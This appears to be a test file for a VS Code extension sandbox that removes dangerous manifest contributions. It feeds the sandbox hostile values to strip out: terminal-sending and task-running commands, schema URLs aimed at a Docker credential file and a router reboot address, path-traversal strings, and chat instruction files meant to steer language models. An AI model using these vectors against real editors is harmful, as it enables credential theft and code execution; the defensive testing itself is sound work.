  const builtin = extension("vscode.npm", dangerous(), { isBuiltin: true });
  const companion = extension("bulkhead.companion", dangerous(), { extensionLocation: { path: "/opt/companion" } });
  const impostor = extension("bulkhead.companion", dangerous(), { extensionLocation: { path: "/tmp/companion" } });
  bulkhead.disarm([builtin, companion, impostor], []);
  assert.deepEqual([builtin, companion, impostor].map(({ contributes }) => contributes.keybindings.length), [1, 1, 0]);
});

test("what has a built-in extension's id and is none declares nothing, and its person is told", () => {
  const { bulkhead, extension } = page();
  const companion = extension("bulkhead.companion", {}, { extensionLocation: { path: "/opt/companion" } });
  const impostor = extension("VSCode.npm", { commands: [{ command: "npm.runScript" }], themes: [{}] }, { isBuiltin: true, extensionLocation: { scheme: "vscode-remote", path: "/ext/npm" }, name: "npm", version: "99.0.0" });
  bulkhead.disarm([companion, impostor, extension("you.yours", { themes: [{}] })], []);
  assert.deepEqual(Object.keys(impostor.contributes), []);
  bulkhead.notInBrowser(extension("x.web", {}, { name: "web", version: "1.0.0" }));
  assert.deepEqual(structuredClone(companion.bulkheadNotStarted), [
    { id: "VSCode.npm", name: "npm", version: "99.0.0", why: "impostor" },
    { id: "x.web", name: "web", version: "1.0.0", why: "browser" },
  ]);
});

test("what cannot be read declares nothing, and an extension cannot say itself what was left out", () => {
  const { bulkhead, extension, told } = page();
  const contributes = { commands: OWN };
  Object.defineProperty(contributes, "keybindings", { enumerable: true, get: () => { throw new Error("no"); } });
  const broken = extension("a.broken", contributes);
  const liar = extension("a.liar", { commands: OWN }, { bulkheadWithheld: ["nothing"] });
  const none = extension("a.none", undefined);
  bulkhead.disarm([broken, liar, none], []);
  assert.deepEqual(Object.keys(broken.contributes), []);
  assert.equal(liar.bulkheadWithheld, undefined);
  assert.match(told.join("\n"), /a\.broken cannot be read/);
});

test("a package that says more than compartments can be told loses that, and everybody starts", () => {
  const { bulkhead, extension, told } = page();
  const nested = (depth, inner = 1) => (depth === 0 ? inner : nested(depth - 1, depth % 2 ? [inner] : { inner }));
  const depthOf = (value) => (value && typeof value === "object" ? 1 + Math.max(0, ...Object.values(value).map(depthOf)) : 0);
  const deep = extension("a.deep", { commands: OWN, colors: nested(400) }, { other: nested(400), list: [nested(400)], main: "./main.js" });
  const wide = extension("a.wide", { commands: OWN }, { other: Object.fromEntries(Array.from({ length: 30_000 }, (_, i) => [`k${i}`, 1])) });
  const many = extension("a.many", { commands: OWN }, { other: Array(300_000).fill(0), text: "x".repeat(1e7), some: [1, 2] });
  const impostor = extension("vscode.npm", {}, { extensionLocation: { path: "/tmp/npm" }, other: nested(400), displayName: { toString: 1 } });
  const honest = extension("a.honest", { commands: OWN }, { displayName: "Honest", other: { deep: nested(20) } });
  const before = JSON.stringify(honest);
  bulkhead.disarm([deep, wide, many, impostor, honest], []);
  // As src/vscode/json_text.h has it, of one list of all of them.
  for (const one of [deep, wide, many, impostor]) assert.ok(depthOf(one) < 150, one.identifier.value);
  assert.ok(Object.keys(wide.other).length <= 2000);
  assert.ok(JSON.stringify(many).length < 1e6);
  assert.deepEqual(structuredClone(many.some), [1, 2]);
  for (const one of [deep, wide, many, honest]) assert.deepEqual(structuredClone(one.contributes.commands), OWN, one.identifier.value);
  assert.equal(deep.main, "./main.js");
  assert.equal(JSON.stringify(honest), before);
  assert.match(told.join("\n"), /a\.many .* other, which is too much/);
});

test("nor does the name of a setting, each part of which is a level in the tree of all settings", () => {
  const deep = Array(300).fill("a").join(".");
  const { contributes } = page().disarmed({
    configuration: { properties: { [`mine.${deep}`]: {}, [`mine.${"x".repeat(600)}`]: {}, "mine.a.b.c.d.e.f": {} } },
    configurationDefaults: { [`diffEditor.${deep}`]: 1, "[x]": { [`outline.${deep}`]: 1, "editor.tabSize": 2 }, "diffEditor.codeLens": true },
  });
  assert.deepEqual(Object.keys(contributes.configuration.properties), ["mine.a.b.c.d.e.f"]);
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.configurationDefaults)), { "[x]": { "editor.tabSize": 2 }, "diffEditor.codeLens": true });
});

test("a walkthrough's page runs the commands of its own extension", () => {
  const { bulkhead, extension } = page();
  bulkhead.disarm([extension("Me.mine", { commands: [...OWN, { command: "npm.mine" }, { command: "workbench.action.terminal.new" }] }), structuredClone(NPM)], []);
  assert.equal(bulkhead.walkthroughCommands("Setup"), bulkhead.anyCommand);
  assert.deepEqual([...bulkhead.walkthroughCommands(undefined)], []);
  assert.equal(bulkhead.walkthroughCommands("vscode.npm#first#step"), bulkhead.anyCommand);
  assert.deepEqual([...bulkhead.walkthroughCommands("un.known#first#step")], []);
  const mine = bulkhead.walkthroughCommands("Me.mine#first#step");
  assert.ok(mine.includes("mine.hello") && mine.includes("vscode.open"));
  for (const command of ["npm.mine", "workbench.action.terminal.new", "vscode.openFolder", "paste"]) assert.ok(!mine.includes(command), command);
});

test("a message is Bulkhead's where the companion says it", () => {
  const { bulkhead, extension } = page();
  bulkhead.disarm([extension("bulkhead.companion", {}, { extensionLocation: { path: "/opt/companion" } }), extension("me.mine", {})], []);
  assert.deepEqual(["Bulkhead.Companion", "me.mine", "vscode.git", undefined].map(bulkhead.isAskers), [true, false, false, false]);
});

test("whose messages the broker has looked through", () => {
  const { bulkhead, extension } = page();
  bulkhead.disarm([extension("Me.mine", { commands: OWN }), structuredClone(NPM)], []);
  assert.deepEqual(["me.Mine", "vscode.npm", "un.known", undefined].map(bulkhead.isLookedThrough), [true, false, false, false]);
});

test("keys of a webview run what is harmless, and its extension's own", () => {
  const { bulkhead, extension } = page();
  bulkhead.disarm([extension("Me.mine", { commands: OWN }), structuredClone(NPM)], []);
  const press = (id, command, args) => {
    let may;
    bulkhead.pressedIn(id, () => (may = bulkhead.mayPress(command, args)));
    return may;
  };
  const evil = ["workbench.action.tasks.build", "workbench.action.debug.start", "notification.acceptPrimaryAction", "workbench.action.terminal.sendSequence", "somebody.else", "notebook.cell.execute", "bulkhead.allow"];
  for (const id of ["Me.mine", "un.known", undefined]) {
    for (const command of evil) assert.equal(press(id, command), false, `${id} ${command}`);
    for (const command of ["workbench.action.showCommands", "workbench.action.quickOpen", "workbench.action.closeActiveEditor", "workbench.action.files.save", "undo", "workbench.action.zoomIn", "editor.action.webvieweditor.showFind", "notebook.focusNextEditor", null])
      assert.equal(press(id, command), true, `${id} ${command}`);
    assert.equal(press(id, "workbench.action.quickOpen", ">"), false);
    for (const command of ["editor.action.deleteLines", "editor.emmet.action.expandAbbreviation", "type", "deleteLeft"]) assert.equal(press(id, command), false, "in the document beside it");
  }
  assert.equal(press("me.mine", "mine.hello"), true);
  bulkhead.disarm([extension("me.also", { commands: [{ command: "npm.mine" }] })], [extension("Me.mine", { commands: OWN }), structuredClone(NPM)]);
  assert.equal(press("me.also", "npm.mine"), true);
  assert.equal(press("me.also", "npm.mine", "of npm, perhaps"), false);
  assert.equal(press(undefined, "mine.hello"), false);
  for (const command of evil) {
    assert.equal(press("vscode.npm", command), true, "the editor's own");
    assert.equal(bulkhead.mayPress(command), true, "a person's key");
  }
  assert.throws(() => bulkhead.pressedIn("me.mine", () => { throw new Error("x"); }));
  assert.equal(bulkhead.mayPress(evil[0]), true, "it is over");
});

test("schemas lie in the package or on a public server", () => {
  const { disarmed } = page();
  const schema = (url) => ({ fileMatch: "*.mine.json", url });
  const fine = ["./schema.json", "./schemas/a..b.json", "https://json.schemastore.org/x.json", "vscode://schemas/settings/user"];
  const not = ["file:///home/me/.docker/config.json", "http://192.168.1.1/reboot", "http://example.com/x", "https://localhost:8443/x", "https://127.0.0.1/x", "https://[::1]/x",
    "https://0x7f000001/x", "https://2130706433/x", "https://router.local/x", "https://a.internal/x", "https://intranet/x", "./../other/secret.json", "./x/%2e%2e/%2e%2e/y", "./%2e%2e%2fy",
    "./..\\y", "../x", "/etc/x", "x.json", "git:/a", "vscode-remote://host/etc/x", 7, undefined];
  const { contributes, bulkheadWithheld } = disarmed({ jsonValidation: [...fine, ...not].map(schema) });
  assert.deepEqual([...contributes.jsonValidation].map(({ url }) => url), fine);
  assert.ok(bulkheadWithheld.includes("the JSON schema http://192.168.1.1/reboot"), bulkheadWithheld.join());
  assert.equal(disarmed({ jsonValidation: schema("./one.json") }).contributes.jsonValidation.url, "./one.json");
});

test("data for HTML and CSS lies in the package", () => {
  const { disarmed } = page();
  const fine = ["./one.json", "data/two.json", "/three.json", "a..b/four.json"];
  const not = ["file:///home/me/.docker/config.json", "https://evil.test/x", "vscode-remote://host/etc/x", "mine:/x", "../x", "./data/../../x", "..", "a\\..\\..\\x", "%2e%2e/x", "..%2fx", 7, null, {}];
  for (const point of ["html", "css"]) {
    const { contributes, bulkheadWithheld } = disarmed({ [point]: { customData: [...fine, ...not] } });
    assert.deepEqual([...contributes[point].customData], fine, point);
    assert.ok(bulkheadWithheld.includes(`the ${point} data ../x`), bulkheadWithheld.join());
  }
  assert.deepEqual([...disarmed({ html: { customData: "../x" } }).contributes.html.customData], []);
});

test("items of menus stand in no view and on no page of Bulkhead's, also where nothing is said of them", () => {
  const { bulkhead, extension } = page();
  // As VS Code's are, which takes what is undefined for nothing.
  const conditions = {
    and: (...all) => (key, value) => all.every((one) => one === undefined || one(key, value)),
    regex: (asked, pattern) => ({ negate: () => (key, value) => key !== asked || !pattern.test(value) }),
  };
  const shown = (one, menu, key, declared) => {
    const condition = bulkhead.menuCondition(one, menu, declared, conditions);
    return ["bulkhead.compartments", "mine.view", "bulkheads"].filter((value) => condition?.(key, value) ?? true);
  };
  const [mine, npm] = [extension("me.mine", {}), NPM];
  for (const [menu, key] of Object.entries({ "view/title": "view", "view/item/context": "view", "editor/title": "activeWebviewPanelId", "editor/title/context": "activeWebviewPanelId", "modalEditor/editorTitle": "activeWebviewPanelId", "webview/context": "webviewId" })) {
    assert.deepEqual(shown(mine, menu, key, undefined), ["mine.view", "bulkheads"], menu);
    assert.deepEqual(shown(mine, menu, key, () => true), ["mine.view", "bulkheads"]);
    assert.deepEqual(shown(mine, menu, key, (_key, value) => value === "mine.view"), ["mine.view"]);
    assert.equal(shown(npm, menu, key, undefined).length, 3);
  }
  assert.equal(bulkhead.menuCondition(mine, "explorer/context", undefined, conditions), undefined);
});

test("a package says of its own commands when they stand in the palette", () => {
  const { disarmed } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    commands: OWN,
    menus: { commandPalette: [{ command: "mine.hello", when: "false" }, { command: "mine.hello", alt: "editor.action.formatDocument" }, { command: "editor.action.formatDocument", when: "false" }, { command: "bulkhead.journal", when: "false" }] },
  });
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.menus.commandPalette)), [{ command: "mine.hello", when: "false" }, { command: "mine.hello" }]);
  assert.equal(bulkheadWithheld.length, 2);
});

test("what a walkthrough shows is the package's own", () => {
  const { disarmed } = page();
  const left = (media) => JSON.parse(JSON.stringify(disarmed({ walkthroughs: [{ id: "w", steps: [{ id: "s", title: "Start", media }] }] }).contributes.walkthroughs[0].steps[0].media));
  for (const own of [{ image: "a/b.png", altText: "https: a picture" }, { image: { dark: "d.png", light: "l.png", hc: "h.png" }, altText: "" }, { svg: "a.svg" }, { markdown: "page.md" }, { video: "v.mp4", poster: "p.png" }]) assert.deepEqual(left(own), own);
  for (const web of [{ image: "https://e.org/x" }, { image: { dark: "d.png", light: "https://e.org/x" } }, { svg: "https://e.org/x" }, { markdown: "https://e.org/x" }, { video: "v.mp4", poster: { dark: "https://e.org/x" } }, { image: "../../x.png" }])
    assert.deepEqual(left({ ...web, altText: "x" }), { image: "withheld", altText: "x" });
});

test("instructions for language models are left out, tools stay", () => {
  const { disarmed } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    chatInstructions: [{ path: "./obey.md" }], chatPromptFiles: [{ path: "./a.prompt.md" }], chatAgents: [{ path: "./b.md" }], chatSkills: [{ path: "./c" }],
    languageModelToolSets: [{ name: "read", referenceName: "read", tools: ["runInTerminal"] }],
    languageModelTools: [{ name: "mine_tool", legacyToolReferenceFullNames: ["runCommands/runInTerminal"] }],
  });
  assert.deepEqual(JSON.parse(JSON.stringify(contributes)), { languageModelTools: [{ name: "mine_tool" }] });
  assert.equal(bulkheadWithheld.length, 5);
});

test("nobody declares to be whom a chat asks where nobody is named", () => {
  const { bulkhead, disarmed, extension } = page();
  const one = { id: "mine.chat", name: "mine", description: "Asks", isSticky: true, commands: [{ name: "x" }] };
  const { contributes, bulkheadWithheld } = disarmed({ chatParticipants: [{ ...one, isDefault: true, isAgent: true, modes: ["agent"], locations: ["panel"] }, one, null] });
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.chatParticipants)), [one, one, null]);
  assert.equal(bulkheadWithheld.length, 4);
  assert.equal(bulkhead.isEditors(extension("me.mine", {})), false);
  assert.equal(bulkhead.isEditors(extension("vscode.git", {}, { isBuiltin: true })), true);
});

test("what a command may be given is not chosen by a package where it matters", () => {
  const { bulkhead, disarmed } = page();
  const keybindings = ["workbench.action.quickOpen", "setContext", "_workbench.openWith", "_workbench.open", "_open.mergeEditor"].map((command) => ({ key: "ctrl+a", command, args: ["x"] }));
  assert.deepEqual(keys(disarmed({ keybindings }).contributes), []);
  const bare = keybindings.map(({ key, command }) => ({ key, command }));
  assert.equal(keys(disarmed({ keybindings: bare }).contributes).length, bare.length);
  const allowed = bulkhead.walkthroughCommands("Me.mine#walkthrough#step");
  assert.ok(allowed.includes("workbench.action.openSettings"));
  for (const { command } of keybindings) assert.ok(!allowed.includes(command), command);
});

test("models are managed by own commands, and the window's own chats stay its own", () => {
  const { disarmed } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    commands: OWN,
    languageModelChatProviders: [{ vendor: "you.evil", managementCommand: "workbench.extensions.installExtension" }, { vendor: "b", managementCommand: "mine.hello" }],
    chatSessions: [{ type: "mine", alternativeIds: ["local", "yours"] }, { type: "local" }, { type: "agent-host-claude" }, { type: ["local"] }],
  }, NPM, OTHER);
  assert.deepEqual(contributes.languageModelChatProviders.map((one) => one.managementCommand), [undefined, "mine.hello"]);
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.chatSessions)), [{ type: "mine" }]);
  assert.equal(bulkheadWithheld.length, 4);
  const one = disarmed({ commands: OWN, languageModelChatProviders: { vendor: "b", managementCommand: "editor.action.x" }, chatSessions: { type: "mine" } });
  assert.equal(one.contributes.languageModelChatProviders.managementCommand, undefined);
});

test("a configuration that a debugger offers at first is of its own type, and runs its own commands", () => {
  const { disarmed, told } = page();
  const offers = (type, ...initialConfigurations) =>
    disarmed({ commands: OWN, debuggers: [{ type, variables: { own: "mine.hello" }, initialConfigurations }] }, { ...NPM, contributes: { ...NPM.contributes, debuggers: [{ type: "node" }] } }, OTHER)
      .contributes.debuggers[0].initialConfigurations.map(({ name }) => name);
  const own = [{ type: "mine", name: "a", program: "${file}" }, { type: "mine", name: "b", x: "${command:own}${command:mine.hello}${env:HOME}/${workspaceFolder:a b}" }];
  assert.deepEqual(offers("mine", ...own), ["a", "b"]);
  const run = "${command:workbench.action.terminal.sendSequence}";
  const others = [{ type: "node", name: "c" }, { type: "mine", name: "d", x: run }, { type: "mine", name: "e", [run]: 1 }, { type: "mine", name: "f", x: ["${command:own}", { y: run }] }, { type: ["mine"], name: "g" }, { name: "h" }, "i", { type: "mine", name: "j", x: "${config:mine.path}" }, { type: "mine", name: "k", x: "${com${env:NOTHING}mand:undo}" }];
  assert.deepEqual(offers("mine", ...others, own[0]), ["a"]);
  assert.match(told.join(), /the configuration d, which starts/);
  // Of a type of somebody else's, VS Code would put it among that one's.
  assert.deepEqual(offers("node", { type: "node", name: "c" }), []);
});

test("a debugger's variables run its own commands", () => {
  const { disarmed, told } = page();
  const { contributes } = disarmed({ commands: OWN, debuggers: [{ type: "node", variables: { PickProcess: "workbench.action.terminal.sendSequence", own: "mine.hello" } }, { type: "mine" }] }, NPM, OTHER);
  assert.deepEqual({ ...contributes.debuggers[0].variables }, { own: "mine.hello" });
  assert.match(told.join(), /sendSequence for the variable PickProcess/);
});

test("a command that keys and a debugger name is its own, also where its first word is a built-in's", () => {
  const { disarmed, extension } = page();
  const debug = extension("vscode.js-debug", { commands: [{ command: "extension.js-debug.prettyPrint" }] }, { isBuiltin: true });
  const { contributes } = disarmed({
    debuggers: [{ type: "mock", variables: { ask: "extension.mock-debug.getProgramName", theirs: "yours.token", builtin: "extension.js-debug.prettyPrint" } }],
    keybindings: [
      { key: "escape", command: "extension.vim_escape", args: 1 },
      { key: "ctrl+e", command: "yours.token" },
      { key: "ctrl+a", command: "extension.js-debug.hidden" },
      { key: "ctrl+b", command: "extension.js-debug.hidden", args: 1 },
      { key: "ctrl+c", command: "workbench.action.terminal.new" },
      { key: "ctrl+d", command: "-extension.js-debug.prettyPrint" },
    ],
  }, debug, NPM, OTHER);
  assert.deepEqual(Object.keys(contributes.debuggers[0].variables), ["ask"]);
  assert.deepEqual([...contributes.keybindings].map(({ key }) => key), ["escape", "ctrl+a"]);
  // What two only name is no one's: without arguments alone.
  const other = extension("you.other", { keybindings: [{ key: "x", command: "extension.vim_escape" }] });
  const shared = disarmed({ keybindings: [{ key: "escape", command: "extension.vim_escape" }, { key: "tab", command: "extension.vim_escape", args: 1 }] }, other);
  assert.deepEqual([...shared.contributes.keybindings].map(({ key }) => key), ["escape"]);
});
